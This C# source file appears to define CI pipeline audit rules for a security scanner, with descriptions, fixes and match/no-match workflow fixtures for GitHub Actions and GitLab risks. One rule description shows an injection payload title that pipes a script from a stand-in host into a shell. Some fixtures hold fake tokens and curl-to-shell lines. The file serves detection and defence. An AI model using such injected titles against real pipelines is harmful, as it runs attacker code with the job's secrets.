using Bulwark.Core.Findings;

namespace Bulwark.Scanning.PipelineConfig.Audit.Rules;

internal static partial class AuditRules
{
    public static readonly AuditRule TemplateInjection = new(
        "pipeline-template-injection", "Attacker-controlled text expanded into a script",
        "A ${{ }} expression whose value an outside contributor writes (a pull-request title or branch name, an issue or comment body, a commit message; in GitLab a merge-request title or commit message evaluated by eval or sh -c) is pasted into the script before the shell parses it, so a title like `a\"; curl evil.sh | sh; \"` runs as code with the job's token and secrets.",
        Severity.High, Confidence.High,
        "Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo \"$TITLE\"` (bulwark pipeline audit --fix does this). For actions/github-script read `context.payload` instead. In GitLab, never eval such variables; use them quoted.")
    {
        Fixable = true,
        MustMatch =
        [
            new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n"),
            new(Workflow, "on: issue_comment\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: console.log('${{ github.event.comment.body }}')\n"),
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          git log -1\n          echo ${{ format('{0}', github.event.head_commit.message) }}\n"),
            new(GitLab, "check:\n  image: alpine@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n  script:\n    - eval \"echo $CI_MERGE_REQUEST_TITLE\"\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\"\n"),
            new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ contains(github.event.pull_request.title, 'wip') }}\n"),
            new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: github.event.pull_request.title != 'x'\n    steps:\n      - run: echo ${{ github.event.pull_request.title == 'release' }}\n"),
            new(GitLab, "check:\n  image: alpine@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n  script:\n    - echo \"$CI_MERGE_REQUEST_TITLE\"\n"),
        ],
    };

    public static readonly AuditRule TemplateInjectionInput = new(
        "pipeline-template-injection-input", "Workflow input expanded into a script",
        "A manual-run or reusable-workflow input is pasted into the script before the shell parses it. Whoever can start the run (or call the workflow) chooses the text, which becomes code.",
        Severity.Low, Confidence.Low,
        "Pass the input through an environment variable: `env: { VERSION: ${{ inputs.version }} }` and `run: echo \"$VERSION\"`; restrict it with `type: choice` where possible.")
    {
        Fixable = true,
        MustMatch = [new(Workflow, "on:\n  workflow_dispatch:\n    inputs:\n      v: { type: string }\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh ${{ inputs.v }}\n")],
        MustNotMatch = [new(Workflow, "on: workflow_dispatch\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh \"$V\"\n        env:\n          V: ${{ inputs.v }}\n")],
    };

    public static readonly AuditRule DangerousTrigger = new(
        "pipeline-dangerous-trigger", "Privileged trigger checks out or runs untrusted code",
        "pull_request_target and workflow_run run in the base repository with its secrets and a write token. Checking out the pull request's head (or the triggering run's branch) and then building, testing or running it hands all of that to the fork's author (a \"pwn request\").",
        Severity.Critical, Confidence.High,
        "Use the pull_request trigger for anything that runs the contributor's code; if the privileged part is needed (labels, comments), split it into a workflow_run workflow that only consumes artifacts as data, never checks out the head ref, and sets `permissions:` to the minimum.")
    {
        MustMatch =
        [
            new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n"),
            new(Workflow, "on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.workflow_run.head_branch }}\n      - run: make\n"),
            new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr checkout ${{ github.event.pull_request.number }} && make\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: pull_request_target\npermissions:\n  pull-requests: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9\n"),
            new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n"),
        ],
    };

    public static readonly AuditRule DangerousTriggerPrivileged = new(
        "pipeline-dangerous-trigger-privileged", "Privileged trigger with secrets or write permissions",
        "A pull_request_target or workflow_run workflow that fork contributors can start uses secrets or a token with write scopes. It does not check out the fork's code, but any step that reads contributor-controlled data (artifacts, titles, files from the API) can be steered.",
        Severity.Medium, Confidence.Medium,
        "Prefer pull_request; otherwise keep `permissions:` to the scopes the job needs, give secrets only to steps that need them, and treat everything from the pull request as data.")
    {
        MustMatch = [new(Workflow, "on: pull_request_target\npermissions:\n  contents: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n")],
        MustNotMatch = [new(Workflow, "on: pull_request\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n")],
    };

    public static readonly AuditRule UnpinnedAction = new(
        "pipeline-unpinned-action", "Action not pinned to a commit SHA",
        "A tag or branch can be moved to other code by whoever controls the action's repository; in March 2025 the tags of tj-actions/changed-files were moved to a commit that printed every secret into the build log of thousands of repositories.",
        Severity.Medium, Confidence.High,
        "Pin the full 40-character commit SHA and keep the version as a comment: `uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1` (Dependabot and Renovate update such pins). Owners you trust to keep tags immutable can be listed in bulwark.toml `[pipeline] allowed_owners`.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@v45\n"),
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    uses: octo-org/shared/.github/workflows/build.yml@main\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@2f7c5bfce28377bc069a65ba478de0a74aa0ca32 # v46.0.1\n      - uses: ./.github/actions/local\n"),
        ],
    };

    public static readonly AuditRule UnpinnedActionVersionMismatch = new(
        "pipeline-unpinned-action-version-mismatch", "Pinned ref and its version comment disagree",
        "The comment after a pinned `uses:` says which version the pin is, and reviewers and update bots trust it. A tag ref with a comment naming another version, or one commit SHA described as two different versions in the repository, means the pin is not what it claims.",
        Severity.Medium, Confidence.Medium,
        "Re-pin with your update tool (Dependabot, Renovate, pinact) so the SHA and the `# vX.Y.Z` comment come from the same tag.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.1.1 # v3.6.0\n"),
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v3.0.0\n"),
        ],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1\n      - uses: actions/setup-node@v4 # v4\n")],
    };

    public static readonly AuditRule UnpinnedImage = new(
        "pipeline-unpinned-image", "Container image not pinned by digest",
        "An image tag (worst of all `latest` or no tag) is resolved at run time: whoever can push to the repository behind it decides what runs in the job, next to its secrets.",
        Severity.Medium, Confidence.High,
        "Pin the digest: `image: python:3.12-slim@sha256:<digest>` (the tag stays readable; the digest decides). Renovate and Dependabot keep digests current.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: node:latest\n    steps:\n      - run: npm test\n"),
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      db:\n        image: postgres\n    steps:\n      - uses: docker://alpine:3.19\n"),
            new(GitLab, "test:\n  image: python:latest\n  script: [pytest]\n"),
            new(GitLab, "default:\n  image:\n    name: ruby:3.3\ntest:\n  script: [rake]\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: node:20@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n    steps:\n      - run: npm test\n"),
            new(GitLab, "test:\n  image: python:3.12@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n  script: [pytest]\n"),
        ],
    };

    public static readonly AuditRule ExcessivePermissions = new(
        "pipeline-excessive-permissions", "Token with every write scope",
        "`permissions: write-all` (or every scope set to write) gives each step a token that can push code, create releases, approve pull requests and change workflows.",
        Severity.High, Confidence.High,
        "Start from `permissions: {}` at the top of the workflow and grant each job only the scopes it uses, e.g. `permissions: { contents: read, pull-requests: write }`.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")],
    };

    public static readonly AuditRule ExcessivePermissionsDefault = new(
        "pipeline-excessive-permissions-default", "Workflow token with default permissions",
        "Without a `permissions:` block the GITHUB_TOKEN gets the repository's default scopes, which on older repositories and most organisations is read and write on everything.",
        Severity.Medium, Confidence.Medium,
        "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant jobs what they need.")
    {
        MustMatch = [new(Workflow, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")],
        MustNotMatch =
        [
            new(Workflow, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - run: make\n"),
            new(Workflow, "on: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
        ],
    };

    public static readonly AuditRule ExcessivePermissionsUnused = new(
        "pipeline-excessive-permissions-unused", "Write scope the job does not appear to use",
        "The job is granted a write scope, but none of its steps is a known user of it (git push, releases, gh, GitHub API actions, package publishing). An injected step gets the scope anyway.",
        Severity.Low, Confidence.Low,
        "Drop the scope or lower it to read; grant write only to the job that pushes, publishes or comments.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - run: pytest\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - run: git push origin HEAD:refs/heads/gh-pages\n")],
    };

    public static readonly AuditRule CredentialPersistence = new(
        "pipeline-credential-persistence", "Checkout credentials uploaded as an artifact",
        "actions/checkout writes the job's token into .git/config unless `persist-credentials: false`. Uploading the workspace (or .git) as an artifact publishes that token to anyone who can download artifacts (the \"ArtiPACKED\" leak).",
        Severity.High, Confidence.Medium,
        "Set `persist-credentials: false` on the checkout (bulwark pipeline audit --fix adds it) and upload only build outputs, never `.` or `.git`.")
    {
        Fixable = true,
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n      - run: make\n      - uses: actions/upload-artifact@65462800fd760344b1a7b4382951275a0abb4808\n        with:\n          path: .\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@65462800fd760344b1a7b4382951275a0abb4808\n        with:\n          path: .\n")],
    };

    public static readonly AuditRule CredentialPersistenceCheckout = new(
        "pipeline-credential-persistence-checkout", "Checkout leaves the token in .git/config",
        "actions/checkout keeps the job's token in .git/config for the rest of the job, where every later step (third-party actions, build scripts, test code) can read it.",
        Severity.Low, Confidence.Medium,
        "Add `persist-credentials: false` to the checkout (bulwark pipeline audit --fix adds it); steps that push can set up their own credentials.")
    {
        Fixable = true,
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n      - run: make\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          persist-credentials: false\n      - run: make\n")],
    };

    public static readonly AuditRule CachePoisoning = new(
        "pipeline-cache-poisoning", "Release workflow restores a cache",
        "GitHub caches are shared across workflows of a repository: a pull-request or other low-privilege run can write a cache entry that a release or publish workflow later restores, planting code in the shipped artifact.",
        Severity.Medium, Confidence.Medium,
        "Do not restore caches in release, publish or deploy workflows (drop `cache:` from setup actions, remove actions/cache); build releases from a clean environment.")
    {
        MustMatch = [new(".github/workflows/release.yml", "on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-python@0a5c61591373683505ea898e09a3ea4f39ef2b9c\n        with:\n          python-version: '3.12'\n          cache: pip\n      - run: python -m build\n")],
        MustNotMatch = [new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-python@0a5c61591373683505ea898e09a3ea4f39ef2b9c\n        with:\n          cache: pip\n")],
    };

    public static readonly AuditRule HardcodedCredentials = new(
        "pipeline-hardcoded-credentials", "Credential written into the pipeline file",
        "A token, key or password is written literally in `env:`, `with:`, `variables:` or container credentials. Everyone with read access to the repository (and its history, forever) has it.",
        Severity.High, Confidence.High,
        "Revoke it, then store it as a secret and reference it: `${{ secrets.NAME }}` in GitHub, a masked and protected CI/CD variable in GitLab, `secrets: [NAME]` in .bulwark.yml.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      GITHUB_TOKEN: ghp_4Rb7Xk2LmPq9Zt5Wn8Yc3Vd6Hf1Js0GaQeTu\n    steps:\n      - run: make\n"),
            new(GitLab, "variables:\n  AWS_ACCESS_KEY_ID: AKIAZ7QW3XKLMP4RT5NB\ntest:\n  image: alpine@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n  script: [make]\n"),
            new(Bulwark, "on: push\njobs:\n  a:\n    env:\n      API_TOKEN: ghp_4Rb7Xk2LmPq9Zt5Wn8Yc3Vd6Hf1Js0GaQeTu\n    steps:\n      - run: make\n"),
        ],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n      PASSWORD: changeme\n    steps:\n      - run: make\n")],
    };

    public static readonly AuditRule SecretsInherit = new(
        "pipeline-secrets-inherit", "Reusable workflow gets every secret",
        "`secrets: inherit` hands all of the caller's secrets to the called workflow, whatever it needs; for a workflow in another repository that is every secret to code you do not control.",
        Severity.Medium, Confidence.High,
        "Pass only the secrets the workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    uses: octo-org/ci/.github/workflows/build.yml@b4ffde65f46336ab88eb53be808477a3936bae11\n    secrets: inherit\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    uses: octo-org/ci/.github/workflows/build.yml@b4ffde65f46336ab88eb53be808477a3936bae11\n    secrets:\n      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n")],
    };

    public static readonly AuditRule SecretsContextExposure = new(
        "pipeline-secrets-inherit-context", "Whole secrets context exposed",
        "`toJSON(secrets)` (or `secrets[...]` with a computed name) puts every repository and organisation secret into one step's environment or script, so one compromised step leaks them all.",
        Severity.High, Confidence.High,
        "Reference each secret by name: `${{ secrets.NPM_TOKEN }}`.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n        env:\n          ALL: ${{ toJSON(secrets) }}\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n")],
    };

    public static readonly AuditRule SecretsOutsideEnvironment = new(
        "pipeline-secrets-inherit-outside-environment", "Secret used outside a deployment environment",
        "Repository secrets are available to every job on every branch. Secrets held by an `environment:` are released only to the branches and reviewers the environment allows.",
        Severity.Low, Confidence.Low,
        "Move deployment credentials into an environment with protection rules and add `environment: <name>` to the job that deploys.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production\n    steps:\n      - run: ./deploy.sh\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n          GH: ${{ secrets.GITHUB_TOKEN }}\n")],
    };

    public static readonly AuditRule SelfHostedRunner = new(
        "pipeline-self-hosted-runner", "Self-hosted runner reachable from fork pull requests",
        "A workflow that runs for pull requests puts a fork's code on a self-hosted runner. Unlike GitHub's runners these persist between jobs: the code can install a backdoor, read other jobs' secrets and reach the internal network.",
        Severity.High, Confidence.Medium,
        "Run pull-request workflows on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners (one job per VM) with fork workflows requiring approval.")
    {
        MustMatch = [new(Workflow, "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: [self-hosted, linux, gpu]\n    steps:\n      - run: pytest\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: [self-hosted, linux, gpu]\n    steps:\n      - run: pytest\n")],
    };

    public static readonly AuditRule InsecureCommands = new(
        "pipeline-insecure-commands", "Deprecated workflow commands re-enabled",
        "ACTIONS_ALLOW_UNSECURE_COMMANDS turns the old ::set-env and ::add-path log commands back on: anything a step prints (a test name, a file it reads) can set environment variables or PATH for later steps.",
        Severity.High, Confidence.High,
        "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to the $GITHUB_ENV / $GITHUB_PATH files instead.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: false\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")],
    };

    public static readonly AuditRule GitHubEnv = new(
        "pipeline-github-env", "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
        "Lines appended to $GITHUB_ENV become environment variables of every later step, and $GITHUB_PATH entries come first on PATH. A value an attacker controls (a title with a newline, a file from the pull request) can set LD_PRELOAD, BASH_ENV or NODE_OPTIONS and run code in the privileged steps that follow.",
        Severity.High, Confidence.Medium,
        "Do not write untrusted values to $GITHUB_ENV / $GITHUB_PATH; pass them as step outputs and read them through `env:` where used, and in pull_request_target / workflow_run workflows never source values from the pull request.")
    {
        MustMatch =
        [
            new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"TITLE=$TITLE\" >> $GITHUB_ENV\n"),
            new(Workflow, "on:\n  workflow_run:\n    workflows: [ci]\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"PR=$(cat pr/number)\" >> \"$GITHUB_ENV\"\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"VERSION=$(cat VERSION)\" >> $GITHUB_ENV\n"),
            new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"MODE=release\" >> $GITHUB_ENV\n"),
        ],
    };

    public static readonly AuditRule UnsoundCondition = new(
        "pipeline-unsound-condition", "if: condition that is always true",
        "When an `if:` value holds text besides one ${{ }} expression (a `|` block adds a newline; `${{ a }} && ${{ b }}` is text), GitHub evaluates the whole string, and a non-empty string is true: the guard never stops the job.",
        Severity.High, Confidence.High,
        "Write the condition as one expression on one line: `if: github.event_name == 'push' && github.ref == 'refs/heads/main'` (or wrap all of it in a single ${{ }}); use `>-` instead of `|` for long conditions.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: |\n      ${{ github.ref == 'refs/heads/main' }}\n    steps:\n      - run: ./deploy.sh\n"),
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - if: ${{ github.event_name == 'push' }} && ${{ github.ref == 'refs/heads/main' }}\n        run: ./deploy.sh\n"),
        ],
        MustNotMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: >-\n      ${{ github.ref == 'refs/heads/main' }}\n    steps:\n      - if: github.event_name == 'push' && github.ref == 'refs/heads/main'\n        run: ./deploy.sh\n"),
        ],
    };

    public static readonly AuditRule BotCondition = new(
        "pipeline-bot-condition", "Spoofable bot check",
        "`github.actor` is whoever caused the latest event, not who wrote the pull request: an attacker can make Dependabot (or another bot) the actor of an event on their own pull request (for example by asking it to rebase) and pass a `github.actor == 'dependabot[bot]'` guard.",
        Severity.High, Confidence.Medium,
        "Check the pull request's author instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (and, for Dependabot, use dependabot/fetch-metadata).")
    {
        MustMatch = [new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: github.actor == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto \"$PR\"\n")],
        MustNotMatch = [new(Workflow, "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto \"$PR\"\n")],
    };

    public static readonly AuditRule KnownVulnerableAction = new(
        "pipeline-known-vulnerable-action", "Action version with a known vulnerability",
        "The action's version is affected by a published advisory (OSV's GitHub Actions ecosystem, from the local advisory database).",
        Severity.High, Confidence.High,
        "Move to the fixed version the advisory names, pinned by commit SHA; if you pinned a compromised commit, rotate every secret the workflow could read.")
    {
        MustMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@v45.0.7\n")],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@v46.0.1\n")],
    };

    public static readonly AuditRule CurlPipeShell = new(
        "pipeline-curl-pipe-shell", "Remote script piped into a shell",
        "`curl … | sh` runs whatever the server returns at that moment, with the job's secrets; nothing pins or verifies it.",
        Severity.Medium, Confidence.Medium,
        "Download a pinned version, verify its checksum (`echo \"<sha256>  install.sh\" | sha256sum -c`), then run it; or use a pinned action or package.")
    {
        MustMatch =
        [
            new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSL https://install.example.com | bash\n"),
            new(GitLab, "test:\n  image: alpine@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a\n  script:\n    - wget -qO- https://get.example.sh | sh -s -- -y\n"),
        ],
        MustNotMatch = [new(Workflow, "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -sSLo install.sh https://install.example.com/v1.2.3/install.sh\n          echo \"3f1d...  install.sh\" | sha256sum -c\n")],
    };
}
